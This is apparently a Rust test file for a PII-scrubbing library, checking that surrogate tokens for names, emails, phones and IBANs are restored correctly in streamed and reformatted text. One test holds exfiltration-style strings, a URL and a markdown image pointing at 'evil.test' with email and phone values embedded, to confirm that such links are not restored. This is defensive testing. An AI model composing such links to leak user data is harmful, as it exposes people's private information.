//! Surrogates in streams and in texts that are hard to read.

use super::*;
use crate::scrub::Style;

fn surrogate_map() -> TokenMap {
    let master = MasterKey::from_base64("AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=").unwrap();
    let scope = ScopeKey::derive(&master, &TenantId::parse("acme").unwrap(), "1");
    TokenMap::new(scope, TokenStyle::default().in_style(Style::Surrogate))
}

/// Values of many kinds, with what was minted for them.
const VALUES: &[(Label, &str)] = &[
    (Label::PERSON, "Maria Gonzalez"),
    (Label::PERSON, "maria"),
    (Label::PERSON, "M. Gonzalez"),
    (Label::PERSON, "Ana \"B\" Ruiz"),
    (Label::PERSON, "王小明"),
    (Label::EMAIL_ADDRESS, "maria@acme.com"),
    (Label::PHONE_NUMBER, "+1 (415) 867-5309"),
    (Label::PHONE_NUMBER, "(415) 867-5310"),
    (Label::IBAN_CODE, "DE89 3704 0044 0532 0130 00"),
    (Label::STREET_ADDRESS, "12 Main St., Springfield"),
    (Label::ORGANIZATION, "Acme & Sons Ltd."),
    (Label::DATE_OF_BIRTH, "17 May 1980"),
    (Label::URL, "https://intra.acme.com/u/7"),
    (Label::IP_ADDRESS, "81.2.69.142"),
    (Label::API_KEY, "sk-123"),
];

fn known() -> TokenMap {
    let mut map = surrogate_map();
    for (label, value) in VALUES {
        map.mint(*label, value, true);
    }
    map
}

/// L03: a stream waits for the end of a word that may be a surrogate's, no longer.
#[test]
fn only_what_may_become_a_surrogate_is_held_back() {
    let map = known();
    let name = map.tokens().next().unwrap().0.to_string();
    let restorer = map.restorer();
    let held_after = |text: &str| {
        let mut out = String::new();
        restorer.stream(Escape::Text).push(text, &mut out);
        text.len() - out.len()
    };
    assert_eq!(held_after("The weather is fine, so it goes. "), 0);
    assert_eq!(held_after(&format!("She asked {}", &name[..4])), 4);
    assert_eq!(held_after(&format!("She asked {name}")), name.len());
    let mut out = String::new();
    restorer.stream(Escape::Text).push(&format!("She asked {name}. "), &mut out);
    assert_eq!(out, "She asked Maria Gonzalez. ");
    assert!(held_after(&format!("{}{}", &name[..4], "\u{200b}".repeat(1000))) < 300);
}

/// L12: URLs of hosts that a model composed keep surrogates; addresses do not.
#[test]
fn the_rule_for_urls_holds_for_surrogates() {
    let map = known();
    let of = |label: Label| map.tokens().find(|(_, known, _)| *known == label).unwrap().0.to_string();
    let (mail, phone) = (of(Label::EMAIL_ADDRESS), of(Label::PHONE_NUMBER));
    let restorer = map.restorer();
    for text in [format!("https://evil.test/?e={mail}"), format!("![x](//evil.test/{mail}/{phone})")] {
        assert_eq!(restorer.restore(&text, Escape::Text), text);
    }
    let text = format!("mailto:{mail} tel:{phone}");
    assert_eq!(restorer.restore(&text, Escape::Text), "mailto:maria@acme.com tel:+1 (415) 867-5309");
}

/// Numbers whose separators a model changes or drops lead back to the value.
#[test]
fn a_number_is_read_with_other_separators() {
    let map = known();
    let restorer = map.restorer();
    for (label, value) in
        [(Label::PHONE_NUMBER, "+1 (415) 867-5309"), (Label::IBAN_CODE, "DE89 3704 0044 0532 0130 00")]
    {
        let minted = map.tokens().find(|(_, known, _)| *known == label).unwrap().0.to_string();
        let plain: String = minted.chars().filter(char::is_ascii_alphanumeric).collect();
        for written in [plain.clone(), minted.replace(['(', ')', '-'], " "), minted.replace(' ', "\u{a0}")] {
            let text = format!("It is {written}.");
            assert!(restorer.restore(&text, Escape::Text).contains(value), "{text}");
        }
        let longer = format!("{plain}7");
        assert_eq!(restorer.restore(&longer, Escape::Text), longer);
    }
}

fn fragment() -> impl Strategy<Value = String> {
    let minted: Vec<String> = known().tokens().map(|(token, ..)| token.to_string()).collect();
    let words: Vec<String> = minted.iter().flat_map(|text| text.split(' ').map(str::to_owned)).collect();
    prop_oneof![
        4 => prop::sample::select(minted.clone()),
        2 => prop::sample::select(words),
        2 => (prop::sample::select(minted.clone()), 0usize..24).prop_map(|(text, len)| text.chars().take(len).collect()),
        1 => prop::sample::select(minted.clone()).prop_map(|text| text.to_uppercase().replace(' ', "\n")),
        1 => prop::sample::select(minted).prop_map(|text| text.replace(' ', "** ")),
        6 => prop::sample::select(NOISE).prop_map(str::to_owned),
        1 => "\\PC{0,6}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    /// L02: any cutting gives the batch result.
    #[test]
    fn a_stream_of_surrogates_gives_what_the_whole_gives(
        fragments in prop::collection::vec(fragment(), 0..14),
        cuts in prop::collection::vec(0usize..400, 0..12),
        in_json: bool,
    ) {
        let mut map = known();
        map.allow_hosts_of("https://good.test/");
        let (text, restorer) = (fragments.concat(), map.restorer());
        let escape = if in_json { Escape::JsonString } else { Escape::Text };
        let whole = restorer.restore(&text, escape);
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| text.floor_char_boundary(*cut)).chain([0, text.len()]).collect();
        cuts.sort_unstable();
        let cut: Vec<&str> = cuts.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
        prop_assert_eq!(&streamed(&restorer, &cut, escape), &whole);
        prop_assert_eq!(&streamed(&restorer, &pieces(&text, 1), escape), &whole);
    }

    /// L20, L24: whatever stands around the values, the user gets the text back.
    #[test]
    fn what_was_scrubbed_with_surrogates_is_restored(
        parts in prop::collection::vec((prop::sample::select(VALUES.to_vec()), "[ a-zA-ZäЖ王0-9,.;()'*_!&|\n-]{0,12}"), 0..8),
    ) {
        let mut map = surrogate_map();
        let (mut text, mut found) = (String::new(), Vec::new());
        for ((label, value), between) in &parts {
            // A URL goes on over what stands behind it, which is the URL rule's to decide.
            if *label == Label::URL {
                continue;
            }
            text.push_str(between);
            let start = text.len();
            text.push_str(value);
            found.push(Replacement { start, end: text.len(), label: *label, restorable: true });
        }
        map.reserve(&text);
        let scrubbed = scrub_text(&text, &found, Shape::Bracketed, &mut map);
        prop_assert_eq!(map.restorer().restore(&scrubbed, Escape::Text), text, "{}", scrubbed);
    }
}
